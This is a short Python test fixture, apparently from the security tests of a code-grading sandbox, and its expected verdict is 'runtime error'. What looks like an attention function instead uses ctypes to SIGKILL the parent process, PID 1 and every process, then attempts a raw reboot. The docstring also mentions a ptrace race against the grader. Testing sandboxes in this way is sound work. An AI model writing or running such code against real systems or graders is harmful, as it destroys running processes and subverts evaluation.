"""ctypes: signal the parent (kill(getppid(), SIGKILL)), PID 1, every process (kill(-1)), and
try a raw reboot. In the container the parent is the container's init, not the grader; nothing
outside can be reached. If the runner survives it raises. (ptrace has its own attack: combined with
the SIGTERM that init forwards, which of the two lands first would decide the verdict.)

verdict: runtime error
"""
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    results = []
    for pid, sig in ((os.getppid(), signal.SIGKILL), (1, signal.SIGKILL), (1, signal.SIGTERM),
                     (-1, signal.SIGKILL)):
        results.append((pid, sig, libc.kill(pid, sig), ctypes.get_errno()))
    results.append(("reboot", libc.reboot(0x4321FEDC), ctypes.get_errno()))
    raise RuntimeError(f"still running after {results}")
